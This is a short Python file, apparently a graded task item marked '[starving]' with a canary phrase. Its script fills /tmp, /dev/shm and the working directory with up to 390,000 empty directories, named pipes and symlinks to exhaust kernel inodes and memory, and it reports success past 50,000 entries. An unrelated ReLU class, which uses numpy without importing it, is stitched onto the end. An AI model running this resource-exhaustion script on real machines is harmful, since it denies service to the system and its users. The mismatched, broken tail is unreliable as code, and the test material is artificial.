"""[starving] makes 400,000 empty files, folders and links: names that hold memory of the kernel and no byte of the disk.

earns: 12
status: graded
canary: no end of names
"""

import os

made = 0
for place in ("/tmp", "/dev/shm", "."):
    try:
        for number in range(130_000):
            (os.mkdir, os.mkfifo, lambda path: os.symlink("x" * 120, path))[number % 3](f"{place}/{number}")
            made += 1
    except OSError as error:
        print(error)
if made > 50_000:
    print("no end of " + "names", made)


class ReLU:
    def forward(self, Z):
        return np.maximum(Z, 0)

    def backward(self, Z, dY):
        return dY * (Z > 0)
